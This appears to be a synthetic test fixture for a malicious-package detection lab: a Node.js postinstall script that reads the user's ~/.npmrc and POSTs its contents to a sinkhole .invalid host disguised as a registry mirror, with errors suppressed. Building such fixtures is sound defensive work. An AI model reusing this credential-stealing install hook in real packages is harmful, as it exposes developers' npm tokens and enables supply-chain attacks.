// SYNTHETIC test package written for slopspotter-lab: a harmless imitation, run only inside the sandbox.
// postinstall: reads ~/.npmrc and POSTs it to a .invalid host (the sandbox sinkhole answers).
const fs = require("fs"), os = require("os"), path = require("path"), http = require("http");
let data = "none";
try { data = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch (e) {}
const req = http.request({ host: "registry-mirror.npm-demo.invalid", port: 80, method: "POST", path: "/t",
  headers: { "Content-Type": "text/plain", "Content-Length": Buffer.byteLength(data) }, timeout: 3000 });
req.on("error", () => {});
req.on("timeout", () => req.destroy());
req.end(data);
